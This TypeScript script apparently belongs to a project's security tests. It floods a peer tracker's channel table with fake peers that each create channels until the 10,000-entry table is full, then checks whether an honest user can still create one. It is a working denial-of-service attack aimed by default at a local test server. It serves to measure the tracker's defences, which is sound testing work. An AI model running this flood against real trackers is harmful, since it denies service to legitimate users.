/**
 * Filling the tracker's channel table: made-up peers (--from) each create channels until the table (10,000) is
 * full or they are refused; then an honest user on another address (--honest) creates one. Prints the channels
 * created, the time, the answers, and the honest user's answer. docs/security/tracker.md.
 */

import { options, send } from './kit';

const USAGE = `Usage: npx ts-node scripts/attacks/tracker-channels.ts [--tracker http://127.0.0.1:8000] [--peers 1150] [--from 127.0.0.2] [--honest 127.0.0.3]`;

async function main(): Promise<void> {
  const args = options(USAGE, { tracker: 'http://127.0.0.1:8000', peers: '1150', from: '127.0.0.2', honest: '127.0.0.3' });
  const base = args.tracker;
  const started = Date.now();
  const statuses: Record<number, number> = {};
  let created = 0;
  for (let p = 0; p < Number(args.peers); p++) {
    const id = `10.77.${p >> 8}.${p & 255}:4000`;
    const [ip, port] = id.split(':');
    if ((await send(base, 'POST', '/submit-info/', JSON.stringify({ ip, port: Number(port) }), args.from)).status !== 200) continue;
    for (let c = 0; c < 9; c++) {
      const answer = await send(base, 'POST', '/add-list/', JSON.stringify({ peer_id: id, channel: `x${p}_${c}` }), args.from);
      statuses[answer.status] = (statuses[answer.status] ?? 0) + 1;
      if (answer.status === 200) created++;
    }
  }
  console.log(`attacker: ${created} channels in ${((Date.now() - started) / 1000).toFixed(1)} s; answers ${JSON.stringify(statuses)}`);
  await send(base, 'POST', '/submit-info/', JSON.stringify({ ip: args.honest, port: 5001 }), args.honest);
  const honest = await send(base, 'POST', '/add-list/', JSON.stringify({ peer_id: `${args.honest}:5001`, channel: 'team' }), args.honest);
  console.log(`honest creation of #team from ${args.honest}: ${honest.status} in ${honest.ms} ms ${honest.body}`);
}

main().catch((error) => {
  console.error(error);
  process.exit(1);
});
